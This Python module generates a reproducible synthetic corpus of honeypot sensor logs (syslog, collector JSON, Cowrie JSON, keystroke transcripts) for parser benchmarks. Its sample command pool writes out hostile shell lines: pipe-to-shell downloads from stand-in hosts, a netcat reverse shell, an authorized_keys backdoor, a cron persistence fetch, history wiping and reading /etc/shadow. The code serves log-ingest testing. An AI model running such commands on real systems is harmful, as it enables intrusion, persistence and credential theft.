"""Deterministic mixed sensor-log corpus for ingest benchmarks (see /work/shared/FORMATS.md).

Why a generator and not a sample file: throughput depends on the mix of
formats, event kinds, distinct attackers and line lengths, so the corpus must
be large, realistic and reproducible from a seed.

Four formats are interleaved line by line: DECNET RFC 5424 syslog (SD events,
single- and double-wrapped shell ``CMD`` lines), DECNET collector JSON (the
same SD events wrapped with their ``raw_line``), Cowrie JSON and DECNET
session transcript shard lines (keystrokes of interleaved sessions). Attackers come
from a pool with a heavy-tailed activity distribution, timestamps advance
monotonically with microsecond resolution (so every line is a distinct event),
and a small share of lines is malformed in assorted ways.

To add an event kind: write a ``_sd_*`` method (DECNET SD event, which then
appears as syslog *and* collector lines) or a ``_line_*`` method (any other
line), and register it with a weight in `CorpusGenerator._register`.

    from bench.corpus import generate_corpus
    stats = generate_corpus(Path("/tmp/corpus.log"), lines=1_000_000, seed=1)
"""

from __future__ import annotations

import json
import random
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, NamedTuple

DEFAULT_SEED = 20260302
#: 2026-03-02T00:00:00Z in microseconds.
START_US = 1_772_409_600_000_000
_SHELL_DIRS = ("/root", "/tmp", "/var/tmp", "/home/admin")  # noqa: S108 (sample text)
#: Lines rendered and written per chunk (bounded generator memory).
_CHUNK = 20_000

# Cowrie's own json.dumps style (", " / ": "); the C encoder keeps generation fast.
_JSON = json.JSONEncoder(ensure_ascii=False, separators=(", ", ": ")).encode


class SdRecord(NamedTuple):
    """A DECNET structured-data event before rendering (syslog or collector)."""

    pri: int
    host: str
    app: str
    msgid: str
    params: list[tuple[str, str]]
    msg: str = ""


@dataclass
class CorpusStats:
    """What was generated: per-kind line counts and the totals a report needs."""

    path: Path
    lines: int = 0
    bytes: int = 0
    malformed: int = 0
    attackers: int = 0
    seconds: float = 0.0
    by_kind: Counter[str] = field(default_factory=Counter)
    by_format: Counter[str] = field(default_factory=Counter)

    @property
    def valid(self) -> int:
        return self.lines - self.malformed


Maker = Callable[[], str]


class CorpusGenerator:
    """Renders one line at a time from seeded pools; see module docstring."""

    def __init__(self, seed: int = DEFAULT_SEED, attackers: int = 20_000,
                 malformed_share: float = 0.005) -> None:
        self.rng = random.Random(seed)
        self.now_us = START_US
        self._sec_cache = (-1, "", "")
        self._build_pools(attackers)
        self._kinds: list[tuple[str, str, Maker]] = []  # (name, format, maker)
        self._weights: list[float] = []
        #: Transcript sessions being typed: sid → [text, position, seconds].
        self._typing: dict[str, list[Any]] = {}
        self._register(malformed_share)

    # -- registry ------------------------------------------------------------

    def _register(self, malformed_share: float) -> None:
        """Kinds and their weights (relative within a format; formats by share)."""
        sd_kinds: list[tuple[str, float, Callable[[], SdRecord]]] = [
            ("rcpt_to", 6, self._sd_rcpt_to),
            ("rcpt_denied", 3, self._sd_rcpt_denied),
            ("message_accepted", 3, self._sd_message_accepted),
            ("message_stored", 1, self._sd_message_stored),
            ("auth_attempt", 8, self._sd_auth_attempt),
            ("tls_client_hello", 6, self._sd_tls_client_hello),
            ("ssh_client_banner", 5, self._sd_ssh_client_banner),
            ("http_request_fingerprint", 2, self._sd_http_request_fingerprint),
            ("jarm_fingerprint", 2, self._sd_jarm),
            ("hassh_fingerprint", 2, self._sd_hassh),
            ("tcpfp_fingerprint", 2, self._sd_tcpfp),
            ("tls_certificate", 1.5, self._sd_tls_certificate),
            ("ipv6_link_local_leak", 0.5, self._sd_ipv6_leak),
            ("session_recorded", 1, self._sd_session_recorded),
            ("file_captured", 0.5, self._sd_file_captured),
        ]
        syslog_other: list[tuple[str, float, Maker]] = [
            ("cmd_single", 6, self._line_cmd_single),
            ("cmd_double", 5, self._line_cmd_double),
        ]
        cowrie: list[tuple[str, float, Maker]] = [
            ("cowrie.session.connect", 4, self._cowrie_connect),
            ("cowrie.client.version", 3, self._cowrie_version),
            ("cowrie.client.kex", 3, self._cowrie_kex),
            ("cowrie.login.failed", 8, self._cowrie_login_failed),
            ("cowrie.login.success", 2, self._cowrie_login_success),
            ("cowrie.command.input", 6, self._cowrie_command_input),
            ("cowrie.command.failed", 1, self._cowrie_command_failed),
            ("cowrie.session.file_download", 1, self._cowrie_file_download),
            ("cowrie.session.file_upload", 0.3, self._cowrie_file_upload),
            ("cowrie.direct-tcpip.request", 1, self._cowrie_direct_tcpip),
            ("cowrie.session.closed", 4, self._cowrie_closed),
            ("cowrie.<unlisted>", 1, self._cowrie_unlisted),
        ]
        transcript: list[tuple[str, float, Maker]] = [
            ("transcript_chunk", 1, self._line_transcript),
        ]
        shares = {"rfc5424": 0.50, "collector": 0.14, "cowrie": 0.28, "transcript": 0.08}
        valid = 1.0 - malformed_share
        sd_total = sum(w for _, w, _ in sd_kinds)
        syslog_total = sd_total + sum(w for _, w, _ in syslog_other)
        for name, w, make in sd_kinds:
            self._add(name, "rfc5424", valid * shares["rfc5424"] * w / syslog_total,
                      self._as_syslog(make))
            self._add(name, "collector", valid * shares["collector"] * w / sd_total,
                      self._as_collector(make))
        for name, w, maker in syslog_other:
            self._add(name, "rfc5424", valid * shares["rfc5424"] * w / syslog_total, maker)
        cowrie_total = sum(w for _, w, _ in cowrie)
        for name, w, maker in cowrie:
            self._add(name, "cowrie", valid * shares["cowrie"] * w / cowrie_total, maker)
        for name, w, maker in transcript:
            self._add(name, "transcript", valid * shares["transcript"] * w, maker)
        self._add("malformed", "malformed", malformed_share, self._line_malformed)

    def _add(self, name: str, fmt: str, weight: float, maker: Maker) -> None:
        self._kinds.append((name, fmt, maker))
        self._weights.append(weight)

    def _as_syslog(self, make: Callable[[], SdRecord]) -> Maker:
        return lambda: self._syslog(make())

    def _as_collector(self, make: Callable[[], SdRecord]) -> Maker:
        return lambda: self._collector(make())

    # -- driving -------------------------------------------------------------

    def lines(self, count: int) -> Iterator[tuple[str, str, str]]:
        """Yield ``(kind, format, line)`` for ``count`` lines; str lines may hold
        surrogate escapes (written with ``surrogateescape`` = raw bad bytes)."""
        rng = self.rng
        kinds = self._kinds
        index = range(len(kinds))
        done = 0
        while done < count:
            n = min(_CHUNK, count - done)
            for i in rng.choices(index, weights=self._weights, k=n):
                # Mostly sub-second gaps: ~1M lines span about a day.
                self.now_us += rng.randrange(1, 170_000)
                name, fmt, maker = kinds[i]
                yield name, fmt, maker()
            done += n

    # -- pools -----------------------------------------------------------------

    def _build_pools(self, attackers: int) -> None:
        rng = self.rng
        ips: dict[str, None] = {}
        while len(ips) < attackers:
            if rng.random() < 0.07:
                ip = (f"2a0{rng.randrange(1, 16):x}:{rng.getrandbits(16):x}:"
                      f"{rng.getrandbits(16):x}::{rng.getrandbits(16):x}")
            else:
                first = rng.choice((rng.randrange(1, 10), rng.randrange(11, 127),
                                    rng.randrange(128, 224)))
                ip = f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            ips[ip] = None
        self.ips = list(ips)
        self._ip_index = {ip: i for i, ip in enumerate(self.ips)}

        def hexes(n: int, bits: int) -> list[str]:
            width = bits // 4
            return [f"{rng.getrandbits(bits):0{width}x}" for _ in range(n)]

        self.ja3 = hexes(400, 128)
        self.ja4 = [
            f"{rng.choice('tq')}{rng.choice(('13', '12', '13', '10'))}{rng.choice('di')}"
            f"{rng.randrange(100):02d}{rng.randrange(100):02d}{rng.choice(('h2', 'h1', '00'))}_"
            f"{rng.getrandbits(48):012x}_{rng.getrandbits(48):012x}" for _ in range(400)
        ]
        self.ja4h = [f"ge11nn{rng.randrange(100):02d}enus_{rng.getrandbits(48):012x}"
                     f"_{rng.getrandbits(48):012x}" for _ in range(200)]
        self.hassh = hexes(150, 128)
        self.hassh_server = hexes(80, 128)
        self.jarm = hexes(250, 248) + ["0" * 62] * 25
        self.tcpfp = hexes(150, 128)
        self.certs = hexes(800, 256)
        self.sha256 = hexes(3000, 256)
        self.sessions = hexes(60_000, 48)
        self.mail_ids = hexes(5000, 40)
        self.hosts = [f"{role}-{i:02d}" for role, n in (("mail", 8), ("web", 12), ("ssh", 10),
                                                        ("db", 5)) for i in range(1, n + 1)]
        self.mail_hosts = self.hosts[:8]
        self.cowrie_sensors = [f"hp-{r}-{i}" for r in ("east", "west", "eu", "ap")
                               for i in (1, 2, 3)]
        self.domains = ["victim-co.com", "Victim-Co.com", "one.org", "two.org", "example-bank.net",
                        "mail.contoso.io", "xn--bcher-kva.example", "bücher.example", "corp.local",
                        "hr.acme.co.uk", "payments.shop", "tenant-42.onmicrosoft.com"]
        self.domains += [f"dom{i}.example{i % 7}.net" for i in range(180)]
        self.locals = ["jane", "ops", "admin", "billing", "ceo", "it-support", "noreply", "x", "y",
                       "hr", "finance", "root", "postmaster", "john.smith", "a.b+tag"]
        self.users = ["root", "admin", "ubuntu", "test", "oracle", "user", "pi", "postgres",
                      "git", "ftpuser", "support", "guest", "deploy", "hadoop", "nagios"]
        self.passwords = ["123456", "password", "admin", "root", "1234", "hunter2", "qwerty",
                          "P@ssw0rd", 'pa"ss', "back\\slash", "br]acket", "letmein", "",
                          "changeme", "raspberry", "12345678", "toor", "Admin@123"]
        self.commands = [
            "cat /etc/os-release", "uname -a", "id", "w", "nproc",
            "cat /proc/cpuinfo | grep name | wc -l", "free -m", "ls -la /tmp",
            "curl -fsSL http://203.0.113.80/i.sh | sh",
            "cd /tmp; wget http://198.51.100.9/x86 -O .x; chmod +x .x; ./.x",
            "nc -e /bin/sh 198.51.100.7 4444",
            "echo 'ssh-rsa AAAAB3NzaC1yc2E attacker@box' >> ~/.ssh/authorized_keys",
            "crontab -l; echo \"*/5 * * * * curl -s http://evil.example/c | sh\" | crontab -",
            "history -c; rm -rf ~/.bash_history", "ps aux | grep -v grep | grep miner",
            "busybox wget http://192.0.2.55:8080/bins/mips; chmod 777 mips; ./mips",
            "echo -e \"\\x41\\x42\" > /dev/null", "passwd", "sudo -l", "cat /etc/shadow",
            "python3 -c 'import socket,os;s=socket.socket()'", "iptables -F",
            "tftp -g -r x86 198.51.100.33", "uname -m; lscpu | head -3",
        ]
        self.banners = ["SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_8.9p1",
                        "SSH-2.0-PuTTY_Release_0.78", "SSH-2.0-paramiko_3.4.0",
                        "SSH-2.0-libssh_0.9.6", "SSH-2.0-ZGrab ZGrab SSH Survey"]
        self.server_banners = ["SSH-2.0-OpenSSH_9.6", "SSH-2.0-OpenSSH_7.4",
                               "SSH-2.0-dropbear_2022.83"]
        self.snis = ["intranet", "mail.victim-co.com", "", "vpn.corp.local", "www.example.com"]
        self.urls = [f"http://{h}/{p}" for h in ("203.0.113.80", "198.51.100.9", "evil.example",
                                                  "cdn.bad-actor.ru", "192.0.2.55:8080")
                     for p in ("x86", "bins/arm7", "i.sh", "m.tar.gz")]

    # -- shared pieces -----------------------------------------------------------

    def attacker(self) -> str:
        """Heavy-tailed pick: a few attackers are very busy, every one recurs."""
        ips = self.ips
        return ips[int(len(ips) * self.rng.random() ** 3)]

    def _with_port(self, ip: str) -> str:
        if self.rng.random() >= 0.1:
            return ip
        port = self.rng.randrange(1024, 65536)
        return f"[{ip}]:{port}" if ":" in ip else f"{ip}:{port}"

    def _second(self, sec: int) -> tuple[str, str]:
        cached_sec, iso, plain = self._sec_cache
        if sec != cached_sec:
            tm = time.gmtime(sec)
            iso = time.strftime("%Y-%m-%dT%H:%M:%S", tm)
            plain = iso.replace("T", " ")
            self._sec_cache = (sec, iso, plain)
        return iso, plain

    def ts_rfc3339(self, offset_us: int = 0, zulu: bool = False) -> str:
        sec, us = divmod(self.now_us + offset_us, 1_000_000)
        iso = self._second(sec)[0]
        return f"{iso}.{us:06d}Z" if zulu else f"{iso}.{us:06d}+00:00"

    def _session_of(self, ip: str) -> str:
        # A handful of sessions per attacker, so session rows aggregate.
        slot = self._ip_index[ip] * 3 + self.rng.randrange(3)
        return self.sessions[slot % len(self.sessions)]

    def _email(self) -> str:
        rng = self.rng
        return f"{rng.choice(self.locals)}@{rng.choice(self.domains)}"

    # -- rendering ---------------------------------------------------------------

    @staticmethod
    def _escape(value: str) -> str:
        if '"' in value or "\\" in value or "]" in value:
            return value.replace("\\", "\\\\").replace('"', '\\"').replace("]", "\\]")
        return value

    def _syslog_text(self, rec: SdRecord) -> str:
        esc = self._escape
        sd = " ".join([f'{k}="{esc(v)}"' for k, v in rec.params])
        extra = ""
        if self.rng.random() < 0.05:
            extra = '[timeQuality tzKnown="1" isSynced="1" syncAccuracy="250000"]'
        line = f"<{rec.pri}>1 {self.ts_rfc3339()} {rec.host} {rec.app} - {rec.msgid} " \
               f"[relay@55555 {sd}]{extra}"
        return f"{line} {rec.msg}" if rec.msg else line

    def _syslog(self, rec: SdRecord) -> str:
        return self._syslog_text(rec)

    def _collector(self, rec: SdRecord) -> str:
        raw = self._syslog_text(rec)
        fields = dict(rec.params)
        ip = next((fields[k] for k in ("src_ip", "src", "target_ip") if k in fields), "")
        declared = "Unknown" if self.rng.random() < 0.03 else ip.split("]")[0].strip("[")
        if declared != "Unknown" and declared.count(":") == 1:
            declared = declared.split(":")[0]
        sec = self.now_us // 1_000_000
        return _JSON({"timestamp": self._second(sec)[1], "decky": rec.host,
                      "service": rec.app, "event_type": rec.msgid, "attacker_ip": declared,
                      "fields": fields, "msg": rec.msg, "raw_line": raw})

    # -- DECNET structured-data events ---------------------------------------------

    def _sd_rcpt_to(self) -> SdRecord:
        return SdRecord(134, self.rng.choice(self.mail_hosts), "smtp", "rcpt_to",
                        [("src", self._with_port(self.attacker())),
                         ("value", f"<{self._email()}>")])

    def _sd_rcpt_denied(self) -> SdRecord:
        return SdRecord(132, self.rng.choice(self.mail_hosts), "smtp", "rcpt_denied",
                        [("src", self.attacker()), ("value", f"RCPT TO:<{self._email()}>")])

    def _sd_message_accepted(self) -> SdRecord:
        rng = self.rng
        rcpts = ",".join(f"<{self._email()}>" for _ in range(rng.randrange(1, 5)))
        return SdRecord(134, rng.choice(self.mail_hosts), "smtp_relay", "message_accepted",
                        [("src", self.attacker()), ("mail_from", f"<{self._email()}>"),
                         ("rcpt_to", rcpts), ("body_bytes", str(rng.randrange(200, 90_000))),
                         ("truncated", rng.choice(("0", "0", "0", "1"))),
                         ("msg_id", rng.choice(self.mail_ids)[:4].upper())])

    def _sd_message_stored(self) -> SdRecord:
        rng = self.rng
        attachments = _JSON([{"name": "invoice.pdf.exe", "sha256": rng.choice(self.sha256)}]
                            if rng.random() < 0.4 else [])
        urls = _JSON([rng.choice(self.urls)] if rng.random() < 0.6 else [])
        return SdRecord(134, rng.choice(self.mail_hosts), "smtp", "message_stored",
                        [("src", self.attacker()), ("sha256", rng.choice(self.sha256)),
                         ("body_simhash", f"{rng.getrandbits(64):016x}"),
                         ("attachments_json", attachments), ("urls_json", urls)])

    def _sd_auth_attempt(self) -> SdRecord:
        rng = self.rng
        user = rng.choice(self.users)
        secret = rng.choice(self.passwords)
        return SdRecord(132, rng.choice(self.hosts), "auth-helper", "auth_attempt",
                        [("src_ip", self.attacker()), ("username", user), ("principal", user),
                         ("secret_printable", secret), ("secret_b64", "aHVudGVyMg==")])

    def _sd_tls_client_hello(self) -> SdRecord:
        rng = self.rng
        return SdRecord(134, rng.choice(self.hosts), "sniffer", "tls_client_hello",
                        [("src_ip", self.attacker()), ("src_port", str(rng.randrange(1024, 65536))),
                         ("dst_ip", f"10.1.0.{rng.randrange(2, 60)}"), ("dst_port", "443"),
                         ("ja3", rng.choice(self.ja3)), ("ja4", rng.choice(self.ja4)),
                         ("tls_version", rng.choice(("TLS 1.3", "TLS 1.2"))),
                         ("sni", rng.choice(self.snis)), ("alpn", rng.choice(("h2", "http/1.1")))])

    def _sd_ssh_client_banner(self) -> SdRecord:
        rng = self.rng
        return SdRecord(134, rng.choice(self.hosts), "sniffer", "ssh_client_banner",
                        [("src_ip", self.attacker()), ("src_port", str(rng.randrange(1024, 65536))),
                         ("dst_ip", f"10.1.0.{rng.randrange(2, 60)}"), ("dst_port", "22"),
                         ("ssh_version", rng.choice(self.banners))])

    def _sd_http_request_fingerprint(self) -> SdRecord:
        rng = self.rng
        return SdRecord(134, rng.choice(self.hosts), "http", "http_request_fingerprint",
                        [("src_ip", self.attacker()), ("ja4h", rng.choice(self.ja4h)),
                         ("method", rng.choice(("GET", "POST"))),
                         ("path", rng.choice(("/", "/wp-login.php", "/.env", "/cgi-bin/luci")))])

    def _probe(self, kind: str, port: str, params: list[tuple[str, str]]) -> SdRecord:
        return SdRecord(134, "decnet-prober", "prober", kind,
                        [("target_ip", self.attacker()), ("target_port", port), *params])

    def _sd_jarm(self) -> SdRecord:
        port = self.rng.choice(("443", "8443", "4443"))
        return self._probe("jarm_fingerprint", port, [("jarm_hash", self.rng.choice(self.jarm))])

    def _sd_hassh(self) -> SdRecord:
        rng = self.rng
        return self._probe("hassh_fingerprint", "22", [
            ("hassh_server_hash", rng.choice(self.hassh_server)),
            ("ssh_banner", rng.choice(self.server_banners)),
            ("kex_algorithms",
             "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha256"),
            ("encryption_s2c", "aes128-ctr,aes256-gcm@openssh.com"),
            ("mac_s2c", "hmac-sha2-256,umac-64@openssh.com"), ("compression_s2c", "none")])

    def _sd_tcpfp(self) -> SdRecord:
        rng = self.rng
        return self._probe("tcpfp_fingerprint", rng.choice(("22", "80", "443")), [
            ("tcpfp_hash", rng.choice(self.tcpfp)),
            ("tcpfp_raw", f"64:{rng.choice((64240, 29200, 65535))}:1:1460:7:1:1:M,S,T,N,W:0:0"),
            ("ttl", rng.choice(("64", "128", "255")))])

    def _sd_tls_certificate(self) -> SdRecord:
        rng = self.rng
        cn = rng.choice(("panel", "localhost", "c2.example", "admin"))
        return self._probe("tls_certificate", rng.choice(("443", "8443")), [
            ("subject_cn", cn), ("issuer", f"CN={cn}"),
            ("self_signed", rng.choice(("true", "1", "false"))),
            ("not_before", "2026-01-01T00:00:00Z"), ("not_after", "2027-01-01T00:00:00Z"),
            ("sans", cn), ("cert_sha256", rng.choice(self.certs))])

    def _sd_ipv6_leak(self) -> SdRecord:
        rng = self.rng
        mac = [rng.getrandbits(8) & 0xFC for _ in range(1)] + [rng.getrandbits(8) for _ in range(5)]
        if rng.random() < 0.6:
            addr = (f"fe80::{mac[0] ^ 2:02x}{mac[1]:02x}:{mac[2]:02x}ff:fe{mac[3]:02x}:"
                    f"{mac[4]:02x}{mac[5]:02x}")
            kind, oui = "eui64", f"{mac[0]:02x}:{mac[1]:02x}:{mac[2]:02x}"
        else:
            addr = f"fe80::{rng.getrandbits(16):x}:{rng.getrandbits(16):x}:{rng.getrandbits(16):x}"
            kind, oui = "random", "-"
        return self._probe("ipv6_link_local_leak", "-", [
            ("ipv6_addr", addr), ("iid_kind", kind), ("mac_oui", oui),
            ("on_iface", rng.choice(("eth0", "eth1"))), ("vector", "active_echo")])

    def _sd_session_recorded(self) -> SdRecord:
        rng = self.rng
        ip = self.attacker()
        return SdRecord(134, rng.choice(self.hosts), "sessrec", "session_recorded",
                        [("sid", self._session_of(ip)), ("service", "ssh"), ("src_ip", ip),
                         ("duration_s", f"{rng.random() * 600:.3f}")])

    def _sd_file_captured(self) -> SdRecord:
        rng = self.rng
        return SdRecord(134, rng.choice(self.hosts), rng.choice(("ftp", "smb", "http")),
                        "file_captured", [("src_ip", self.attacker()),
                                          ("sha256", rng.choice(self.sha256)),
                                          ("filename", rng.choice(("x86", "a.exe", "m.sh")))])

    # -- shell lines -------------------------------------------------------------

    def _cmd_text(self) -> str:
        rng = self.rng
        user = rng.choice(("root", "root", "admin", "ubuntu"))
        uid = "0" if user == "root" else str(rng.randrange(1000, 1010))
        return (f"CMD uid={uid} user={user} src={self.attacker()} "
                f"pwd={rng.choice(_SHELL_DIRS)} "
                f"cmd={rng.choice(self.commands)}")

    def _line_cmd_single(self) -> str:
        host = self.rng.choice(self.hosts)
        return f"<14>1 {self.ts_rfc3339()} {host} bash - - -  {self._cmd_text()}"

    def _line_cmd_double(self) -> str:
        host = self.rng.choice(self.hosts)
        outer = self.ts_rfc3339()
        inner = self.ts_rfc3339(offset_us=-self.rng.randrange(1, 20_000))
        sd = '[timeQuality tzKnown="1" isSynced="1" syncAccuracy="250000"]' \
            if self.rng.random() < 0.7 else "-"
        return (f"<14>1 {outer} {host} 1 - - -  {inner} {host} bash - command {sd} "
                f"{self._cmd_text()}")

    # -- Cowrie ------------------------------------------------------------------

    def _cowrie(self, eventid: str, extra: dict[str, Any]) -> str:
        rng = self.rng
        ip = self.attacker()
        obj: dict[str, Any] = {"eventid": eventid, **extra}
        if rng.random() < 0.6:  # newer Cowrie versions add these to every event
            obj.update(src_port=rng.randrange(1024, 65536), dst_ip="10.0.0.4", dst_port=22,
                       protocol=rng.choice(("ssh", "ssh", "telnet")),
                       uuid=self.sessions[rng.randrange(64)] + "4a6b")
        obj.update(session=self._session_of(ip), src_ip=ip,
                   sensor=rng.choice(self.cowrie_sensors),
                   timestamp=self.ts_rfc3339(zulu=True))
        return _JSON(obj)

    def _cowrie_connect(self) -> str:
        return self._cowrie("cowrie.session.connect",
                            {"src_port": self.rng.randrange(1024, 65536), "dst_ip": "10.0.0.4",
                             "dst_port": 22, "protocol": "ssh", "message": "New connection"})

    def _cowrie_version(self) -> str:
        version = self.rng.choice(self.banners)
        return self._cowrie("cowrie.client.version",
                            {"version": version, "message": f"Remote SSH version: {version}"})

    def _cowrie_kex(self) -> str:
        return self._cowrie("cowrie.client.kex", {
            "hassh": self.rng.choice(self.hassh),
            "hasshAlgorithms": "curve25519-sha256,diffie-hellman-group14-sha1;aes128-ctr,"
                               "aes256-ctr;hmac-sha2-256,hmac-sha1;none",
            "kexAlgs": ["curve25519-sha256", "diffie-hellman-group14-sha1"],
            "keyAlgs": ["ssh-ed25519", "rsa-sha2-512"], "encCS": ["aes128-ctr", "aes256-ctr"],
            "macCS": ["hmac-sha2-256", "hmac-sha1"], "compCS": ["none"], "langCS": [""],
            "message": "SSH client hassh fingerprint"})

    def _login(self, eventid: str, verb: str) -> str:
        user, password = self.rng.choice(self.users), self.rng.choice(self.passwords)
        return self._cowrie(eventid, {"username": user, "password": password,
                                      "message": f"login attempt [{user}/{password}] {verb}"})

    def _cowrie_login_failed(self) -> str:
        return self._login("cowrie.login.failed", "failed")

    def _cowrie_login_success(self) -> str:
        return self._login("cowrie.login.success", "succeeded")

    def _cowrie_command_input(self) -> str:
        cmd = self.rng.choice(self.commands)
        return self._cowrie("cowrie.command.input", {"input": cmd, "message": f"CMD: {cmd}"})

    def _cowrie_command_failed(self) -> str:
        cmd = self.rng.choice(("enable", "system", "sh", "shell", "linuxshell"))
        return self._cowrie("cowrie.command.failed",
                            {"input": cmd, "message": f"Command not found: {cmd}"})

    def _cowrie_file_download(self) -> str:
        sha = self.rng.choice(self.sha256)
        url = self.rng.choice(self.urls)
        return self._cowrie("cowrie.session.file_download", {
            "url": url, "shasum": sha, "outfile": f"var/lib/cowrie/downloads/{sha}",
            "destfile": ".x", "message": f"Downloaded URL ({url}) with SHA-256 {sha}"})

    def _cowrie_file_upload(self) -> str:
        sha = self.rng.choice(self.sha256)
        return self._cowrie("cowrie.session.file_upload", {
            "shasum": sha, "filename": "payload.bin",
            "outfile": f"var/lib/cowrie/downloads/{sha}", "message": ["Saved upload", sha]})

    def _cowrie_direct_tcpip(self) -> str:
        rng = self.rng
        return self._cowrie("cowrie.direct-tcpip.request", {
            "dst_ip": f"198.51.100.{rng.randrange(1, 255)}", "dst_port": rng.choice((25, 443, 80)),
            "src_port": 5555, "message": "direct-tcp connection request"})

    def _cowrie_closed(self) -> str:
        return self._cowrie("cowrie.session.closed", {
            "duration": round(self.rng.random() * 300, 1), "message": "Connection lost"})

    def _cowrie_unlisted(self) -> str:
        rng = self.rng
        if rng.random() < 0.5:
            return self._cowrie("cowrie.client.size", {"width": 120, "height": 40,
                                                       "message": "Terminal Size: 120 40"})
        return self._cowrie("cowrie.log.closed", {"ttylog": "var/lib/cowrie/tty/abc",
                                                  "size": rng.randrange(100, 9000),
                                                  "duplicate": False, "duration": "3.1",
                                                  "message": "Closing TTY Log"})

    # -- damage ------------------------------------------------------------------

    # -- transcript shards (keystrokes; FORMATS.md §3) -----------------------------

    def _line_transcript(self) -> str:
        """One line of an interleaved shard: header, typed keys, echo, paste, resize, end.

        About 40 sessions are typed at once; each types a command list key by
        key (0.05-0.4 s apart), so keystroke SimHashes have enough digraphs. A
        session's sid is one of its attacker's session ids, so
        ``session_recorded`` events link some of them to an IP.
        """
        rng = self.rng
        typing = self._typing
        if len(typing) < 40 or rng.random() < 0.002:
            sid = self._session_of(self.attacker())
            if sid not in typing:
                text = "; ".join(rng.sample(self.commands, 3)) + "\r"
                typing[sid] = [text, 0, rng.uniform(0.5, 2.0)]
                return _JSON({"sid": sid, "hdr": {
                    "version": 2, "width": 120, "height": 40,
                    "timestamp": self.now_us // 1_000_000,
                    "env": {"SHELL": "/bin/bash", "TERM": "xterm-256color"}}})
        sid = rng.choice(list(typing))
        state = typing[sid]
        text, pos, t = state
        if pos >= len(text):
            del typing[sid]
            if rng.random() < 0.2:
                return _JSON({"sid": sid, "trunc": True})
            return _JSON({"sid": sid, "t": round(t + 0.3, 6), "ch": "r", "d": "100x30"})
        roll = rng.random()
        if roll < 0.25:  # the shell echoes what was typed
            return _JSON({"sid": sid, "t": round(t + 0.002, 6), "ch": "o", "d": text[pos - 1:pos]
                          or "$ "})
        t += rng.uniform(0.05, 0.4)
        if roll < 0.27:  # a paste: several characters in one chunk
            chunk, pos = text[pos:pos + 12], pos + 12
        elif roll < 0.275:  # a byte that is not UTF-8
            chunk = "\udcff"
        else:
            chunk, pos = text[pos], pos + 1
        state[1], state[2] = pos, t
        return _JSON({"sid": sid, "t": round(t, 6), "ch": "i", "d": chunk})

    def _line_malformed(self) -> str:
        """One of several damages; each must make the parser reject the line."""
        rng = self.rng
        choice = rng.randrange(10)
        if choice == 0:  # torn JSON (a writer died mid-line)
            line = self._cowrie_login_failed()
            return line[: rng.randrange(10, len(line) - 2)]
        if choice == 1:  # BSD syslog, not RFC 5424
            return (f"Mar  2 08:{rng.randrange(60):02d}:05 web-02 sshd[{rng.randrange(9999)}]: "
                    f"Failed password for root from {self.attacker()} port 22 ssh2")
        if choice == 2:  # wrong syslog version
            return self._syslog(self._sd_auth_attempt()).replace(">1 ", ">2 ", 1)
        if choice == 3:  # month 13
            good = self.ts_rfc3339()
            return self._syslog(self._sd_rcpt_to()).replace(good, f"{good[:5]}13{good[7:]}", 1)
        if choice == 4:  # invalid attacker address
            return (f'<134>1 {self.ts_rfc3339()} web-02 sniffer - ssh_client_banner '
                    f'[relay@55555 src_ip="999.{rng.randrange(256)}.1.1" ssh_version="SSH-2.0-Go"]')
        if choice == 5:  # invalid UTF-8 (written as raw bytes via surrogateescape)
            return self._syslog(self._sd_auth_attempt()).replace("username=", "user\udcffname=", 1)
        if choice == 6:  # unterminated SD value
            return (f'<134>1 {self.ts_rfc3339()} mail-01 smtp - rcpt_to '
                    f'[relay@55555 src="{self.attacker()}" value="<cut')
        if choice == 7:  # shell line without cmd=
            return (f"<14>1 {self.ts_rfc3339()} web-02 bash - - -  CMD uid=0 user=root "
                    f"src={self.attacker()} pwd=/root")
        if choice == 8:  # JSON of neither known shape
            return _JSON({"level": "info", "msg": "health check ok", "ts": self.now_us})
        return f"<134>1 {self.ts_rfc3339()} web-02 sniffer - tls\x00_client_hello -"  # NUL


def generate_corpus(path: Path, lines: int = 1_000_000, seed: int = DEFAULT_SEED,
                    attackers: int = 20_000, malformed_share: float = 0.005) -> CorpusStats:
    """Write ``lines`` lines to ``path``; deterministic for a given seed and arguments."""
    started = time.perf_counter()
    gen = CorpusGenerator(seed, attackers, malformed_share)
    stats = CorpusStats(path)
    buf: list[str] = []
    by_kind = stats.by_kind
    by_format = stats.by_format
    with open(path, "wb") as out:
        for name, fmt, line in gen.lines(lines):
            by_kind[name] += 1
            by_format[fmt] += 1
            buf.append(line)
            if len(buf) >= _CHUNK:
                stats.bytes += out.write(_encode(buf))
                buf.clear()
        if buf:
            stats.bytes += out.write(_encode(buf))
    stats.lines = lines
    stats.malformed = by_format["malformed"]
    stats.attackers = len(gen.ips)
    stats.seconds = time.perf_counter() - started
    return stats


def _encode(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode("utf-8", "surrogateescape")
